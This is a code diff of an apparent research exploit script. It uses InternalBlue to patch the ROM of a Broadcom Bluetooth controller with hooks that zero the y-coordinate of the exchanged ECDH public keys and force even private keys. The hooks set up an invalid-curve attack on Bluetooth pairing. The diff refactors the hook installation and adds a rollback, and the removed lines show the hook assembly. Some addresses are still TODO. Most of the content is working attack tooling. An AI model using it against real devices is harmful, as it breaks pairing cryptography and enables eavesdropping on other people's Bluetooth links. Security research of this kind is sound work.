@@ -34,9 +34,14 @@ Modify it to select all crypto related stuff and change the packet
 
 """
 
-from pwn import *
+from pwnlib.log import getLogger
+from pwnlib.util.fiddling import unbits
+import struct
+import hashlib
 from internalblue import core
 
+log = getLogger('pwnlib.exploit')     # the logger behind pwn's 'log'
+
 internalblue = core.InternalBlue()
 
 
@@ -47,103 +52,216 @@ GEN_PRIV_KEY_ADDRESS = 0x48eba
 
 EK_REQ_HOOK_ADDRESS = 'TODO'
 
-# Address of the patch
-HOOKS_LOCATION = 0xd7800
-
-ASM_HOOKS = """
-b pk_recv_hook  // HOOKS_LOCATION
-b pk_send_hook  // HOOKS_LOCATION+2
-b gen_priv_key  // HOOKS_LOCATION+4
-b key_req_hook  // HOOKS_LOCATION+6
-
-// overwrite key length
-key_req_hook:
-    TODO
-
-// overwrite y-coordinate of received PK point
-pk_recv_hook:
-    push {r0-r3,lr}
-    strb.w  r0, [r4, 170]
-    ldr r0, =0x205614
-    mov r1, 6
-    mov r2, 0
-loop1:
-    str r2, [r0]
-    add r0, 4
-    subs r1, 1
-    bne  loop1
-    pop {r0-r3,pc}
-
-// overwrite y-coordinate of own PK point before sending it out
-pk_send_hook:
-    add r2, r0, 24
-    mov r3, 0
-    mov r1, 6
-loop2:
-    str r3, [r2]
-    add r2, 4
-    subs r1, 1
-    bne  loop2
-    b 0x2FFC4
-
-// generate a priv key which is always even
-gen_priv_key:
-    push {r4,lr}
-    mov r3, r0
-    mov r4, r1
-generate:
-    mov r0, r3
-    mov r1, r4
-    bl 0x48E96  // generate new priv key
-    ldr  r2, [r3]
-    ands r2, 0x1
-    bne generate
-    pop  {r4,pc}
-"""
-
-# setup sockets
-if not internalblue.connect():
-    log.critical("No connection to target device.")
-    exit(-1)
-
-# Write patches in memory
-code = asm(ASM_HOOKS, vma=HOOKS_LOCATION)
-log.info("Writing hooks to 0x%x..." % HOOKS_LOCATION)
-if not internalblue.writeMem(HOOKS_LOCATION, code):
-    log.critical("Cannot write hooks at 0x%x" % HOOKS_LOCATION)
+# Install the hooks while the controller is in download mode (Download_Minidriver).
+# Bluetooth activity is suspended during the writes and Launch_RAM(0xFFFFFFFF)
+# restarts the firmware afterwards, so all hooks become active at the same time.
+# Experimental: not yet verified that the patchram survives the restart.
+DOWNLOAD_MODE = False
+
+# Address of the patch (HOOKS_LOCATION) and the hook code (ASM_HOOKS)
+# are defined in bla_hooks.py
+from bla_hooks import HOOKS_LOCATION, ASM_HOOKS
+
+# BCM4339 memory map: ROM and the RAM window used for the hooks (see fw_5_constants.py)
+ROM_START, ROM_END = 0x0, 0x90000
+HOOKS_RAM_START, HOOKS_RAM_END = 0xd0000, 0xd8000
+
+# Check the addresses before any HCI traffic is sent. Failing halfway through
+# the installation leaves the controller partially patched.
+for name, address in [("PK_RECV_HOOK_ADDRESS", PK_RECV_HOOK_ADDRESS),
+                      ("PK_SEND_HOOK_ADDRESS", PK_SEND_HOOK_ADDRESS),
+                      ("GEN_PRIV_KEY_ADDRESS", GEN_PRIV_KEY_ADDRESS),
+                      ("EK_REQ_HOOK_ADDRESS",  EK_REQ_HOOK_ADDRESS)]:
+    if not isinstance(address, (int, long)):
+        log.critical("Fill in %s before running!" % name)
+        exit(-1)
+    if not ROM_START <= address < ROM_END:
+        log.critical("%s (0x%x) is not inside the ROM (0x%x - 0x%x)" % (name, address, ROM_START, ROM_END))
+        exit(-1)
+if not HOOKS_RAM_START <= HOOKS_LOCATION < HOOKS_RAM_END:
+    log.critical("HOOKS_LOCATION (0x%x) is not inside 0x%x - 0x%x" % (HOOKS_LOCATION, HOOKS_RAM_START, HOOKS_RAM_END))
     exit(-1)
 
-log.info("Installing hook patches...")
 
-log.info("  - Hook public key receive path to replace y-coordinate with zero")
-patch = asm("bl 0x%x" % HOOKS_LOCATION, vma=PK_RECV_HOOK_ADDRESS)
-if not internalblue.patchRom(PK_RECV_HOOK_ADDRESS, patch):
-    log.critical("Installing patch for PK_recv failed!")
-    exit(-1)
+def encode_thumb_bl(src_vma, dst_vma):
+    """ Encode a Thumb-2 'bl' (T1, +-16MB) from src_vma to dst_vma without
+    invoking the assembler (see ARMv7-M ARM A7.7.18). The result is 4 bytes
+    long, i.e. exactly one patchram value.
+    """
+    offset = dst_vma - (src_vma + 4)
+    if offset % 2 != 0 or not -(1 << 24) <= offset < (1 << 24):
+        raise ValueError("0x%x is out of branch range from 0x%x" % (dst_vma, src_vma))
+    s     = (offset >> 24) & 1
+    i1    = (offset >> 23) & 1
+    i2    = (offset >> 22) & 1
+    imm10 = (offset >> 12) & 0x3ff
+    imm11 = (offset >> 1)  & 0x7ff
+    j1    = (~(i1 ^ s)) & 1
+    j2    = (~(i2 ^ s)) & 1
+    return struct.pack("<HH", 0xf000 | s << 10 | imm10,
+                              0xd000 | j1 << 13 | j2 << 11 | imm11)
+
+def branch_patch(src_vma, dst_vma):
+    """ Build the 4 byte patchram value for a 'bl' at src_vma. All hooks
+    need the link register: they return to (or tail-call) the ROM caller.
+    """
+    patch = encode_thumb_bl(src_vma, dst_vma)
+    log.info("    0x%05x: bl 0x%x" % (src_vma, dst_vma))
+    return patch
+
+
+# Hook sites and the entries of the jump table at HOOKS_LOCATION they branch to:
+# (address, target, description)
+_PATCHES = [
+    (PK_RECV_HOOK_ADDRESS, HOOKS_LOCATION+0,
+        "Hook public key receive path to replace y-coordinate with zero"),
+    # pk_send_hook tail-calls the original callee (b 0x2FFC4), which returns
+    # through the lr set by this bl
+    (PK_SEND_HOOK_ADDRESS, HOOKS_LOCATION+2,
+        "Hook public key send path to replace y-coordinate with zero"),
+    # replace function sub_48E96 (generate random privkey) with a function
+    # that generates an even privkey. needs 2 dword patches because of alignment:
+    #00048EB8 20 A8       ADD     R0, SP, #0x100+var_80
+    #00048EBA FF F7 EC FF BL      sub_48E96
+    #00048EBE 25 98       LDR     R0, [SP,#0x100+var_6C]
+    (GEN_PRIV_KEY_ADDRESS, HOOKS_LOCATION+4,
+        "Hook private key generation function to always produce even private key"),
+    # TODO
+    (EK_REQ_HOOK_ADDRESS,  HOOKS_LOCATION+6,
+        "Hook key size request"),
+]
+
+# The branches only depend on the constants above, so they are encoded
+# before connecting and the installation itself only consists of HCI commands
+log.info("Encoding hook branches:")
+_ENCODED = [(src, branch_patch(src, dst)) for src, dst, description in _PATCHES]
+
+# Unaligned sites occupy two patchram slots
+slot_count = sum([2 if address % 4 else 1 for address, patch in _ENCODED])
 
-log.info("  - Hook public key send path to replace y-coordinate with zero")
-patch = asm("bl 0x%x" % (HOOKS_LOCATION+2), vma=PK_SEND_HOOK_ADDRESS)
-if not internalblue.patchRom(PK_SEND_HOOK_ADDRESS, patch):
-    log.critical("Installing patch for PK_send failed!")
-    exit(-1)
 
-log.info("  - Hook private key generation function to always produce even private key")
-# replace function sub_48E96 (generate random privkey) with a function
-# that generates an even privkey. needs 2 dword patches because of alignment:
-#00048EB8 20 A8       ADD     R0, SP, #0x100+var_80
-#00048EBA FF F7 EC FF BL      sub_48E96
-#00048EBE 25 98       LDR     R0, [SP,#0x100+var_6C]
-patch = asm("bl 0x%x" % (HOOKS_LOCATION+4), vma=GEN_PRIV_KEY_ADDRESS)
-if not internalblue.patchRom(GEN_PRIV_KEY_ADDRESS, patch):
-    log.critical("Installing patch for GEN_PRIV_KEY failed!")
+# setup sockets
+# (export INTERNALBLUE_HCIPORT to reuse an existing adb port forwarding when
+# running the script repeatedly, see InternalBlue._setupSockets())
+if not internalblue.connect():
+    log.critical("No connection to target device.")
     exit(-1)
 
-# TODO
-log.info("  - Hook key size request")
-patch = asm("bl 0x%x" % (HOOKS_LOCATION+6), vma=EK_REQ_HOOK_ADDRESS)
-if not internalblue.patchRom(EK_REQ_HOOK_ADDRESS, patch):
-    log.critical("Installing patch for PK_send failed!")
-    exit(-1)
+# The patchram state has to be read before entering download mode as
+# getPatchramState() needs to run a code snippet on the chip
+patchram_state = None
+if DOWNLOAD_MODE:
+    patchram_state = internalblue.getPatchramState()
+    if not patchram_state:
+        log.critical("Cannot read the patchram state")
+        exit(-1)
+    # patchRomBatch() updates patchram_state in place. Keep a copy for rollback()
+    saved_patchram_state = tuple([list(table) for table in patchram_state])
+    log.info("Entering download mode...")
+    if not internalblue.enterDownloadMode():
+        log.critical("Cannot enter download mode")
+        exit(-1)
+
+# Everything written to the chip is recorded in 'applied' as (address, original
+# bytes). Patchram slots are recorded with None as original bytes. If the
+# installation fails or is interrupted (Ctrl+C), everything is rolled back so
+# the next run starts from a clean state instead of a power-cycled phone.
+applied = []
+installed = False
+
+def restorePatchram(state):
+    """ Write the patchram tables back as they were read before entering
+    download mode. disableRomPatch() can't be used in download mode because
+    it runs a code snippet on the chip to read the patchram state.
+    """
+    fw = internalblue.fw
+    table_addresses, table_values, table_slots = state
+    slot_count = fw.PATCHRAM_NUMBER_OF_SLOTS
+    bitmap  = ''.join([unbits(table_slots[dword*32:(dword+1)*32][::-1])[::-1]
+                       for dword in range(slot_count/32)])
+    values  = ''.join([value if value != None else "\x00"*4
+                       for value in table_values[:slot_count]])
+    targets = ''.join([struct.pack("<I", (address if address != None else 0xFFFFC) >> 2)
+                       for address in table_addresses[:slot_count]])
+    # Disable the new slots first, then restore the slots which were reused
+    for table, data in [(fw.PATCHRAM_ENABLED_BITMAP_ADDRESS, bitmap),
+                        (fw.PATCHRAM_VALUE_TABLE_ADDRESS, values),
+                        (fw.PATCHRAM_TARGET_TABLE_ADDRESS, targets)]:
+        if not internalblue.writeMem(table, data):
+            log.warn("Cannot restore patchram table at 0x%x" % table)
+
+def rollback():
+    log.warn("Rolling back %d changes..." % len(applied))
+    if DOWNLOAD_MODE and (None in [original for address, original in applied]):
+        restorePatchram(saved_patchram_state)
+    for address, original in reversed(applied):
+        if original == None:
+            if not DOWNLOAD_MODE:
+                # Unaligned patches occupy the slots of both dwords
+                for dword_address in range(address & ~3, address + 4, 4):
+                    internalblue.disableRomPatch(dword_address)
+        elif not internalblue.writeMem(address, original):
+            log.warn("Cannot restore memory at 0x%x" % address)
+
+try:
+    # Write patches in memory
+    # The hooks are assembled ahead of time by build_hooks.py. Only fall back to
+    # the assembler if the blob is missing or was built from other hook code.
+    code = None
+    try:
+        import _hooks_blob
+        if (_hooks_blob.HOOKS_BLOB_LOCATION == HOOKS_LOCATION and
+                _hooks_blob.HOOKS_SOURCE_HASH == hashlib.sha1(ASM_HOOKS).hexdigest()):
+            code = _hooks_blob.HOOKS_BLOB
+        else:
+            log.info("_hooks_blob.py is outdated. Run build_hooks.py to update it.")
+    except ImportError:
+        pass
+    if code == None:
+        from pwnlib.asm import asm
+        code = asm(ASM_HOOKS, vma=HOOKS_LOCATION, arch="thumb")
+    # The start of HOOKS_LOCATION was checked above, its end is only known now
+    if HOOKS_LOCATION + len(code) > HOOKS_RAM_END:
+        log.critical("Hook code (0x%x - 0x%x) does not fit into 0x%x - 0x%x" %
+                     (HOOKS_LOCATION, HOOKS_LOCATION + len(code), HOOKS_RAM_START, HOOKS_RAM_END))
+        exit(-1)
+    log.info("Writing hooks to 0x%x..." % HOOKS_LOCATION)
+    original = internalblue.readMem(HOOKS_LOCATION, len(code))
+    if original == None:
+        log.critical("Cannot read original memory at 0x%x" % HOOKS_LOCATION)
+        exit(-1)
+    applied.append((HOOKS_LOCATION, original))
+    if not internalblue.writeMem(HOOKS_LOCATION, code):
+        log.critical("Cannot write hooks at 0x%x" % HOOKS_LOCATION)
+        exit(-1)
+
+    log.info("Installing hook patches...")
+    for src, dst, description in _PATCHES:
+        log.info("  - " + description)
+    log.info("  Hook branches need %d of %d patchram slots" % (slot_count, internalblue.fw.PATCHRAM_NUMBER_OF_SLOTS))
+
+    # All patches are installed together (one patchram state read and one
+    # writeMem per range of consecutive slots instead of 3 per patch)
+    applied.extend([(address, None) for address, patch in _ENCODED])
+    if not internalblue.patchRomBatch(_ENCODED, patchram_state):
+        log.critical("Installing hook patches failed!")
+        exit(-1)
+    installed = True
+finally:
+    if not installed:
+        rollback()
+    # Leave download mode even if the installation failed
+    if DOWNLOAD_MODE:
+        log.info("Leaving download mode (Launch_RAM 0xFFFFFFFF)...")
+        internalblue.launchRam(0xFFFFFFFF)  # the response may be lost during the restart
+
+if DOWNLOAD_MODE:
+    # The firmware restarts, so the HCI connection has to be set up again
+    internalblue.shutdown()
+    internalblue = core.InternalBlue()
+    if not internalblue.connect():
+        log.critical("No connection to target device after leaving download mode.")
+        exit(-1)
 
 # Forcing the generation of a new keypair
 log.info("Send HCI_Write_Simple_Pairing_Mode command to force generation of new key pair")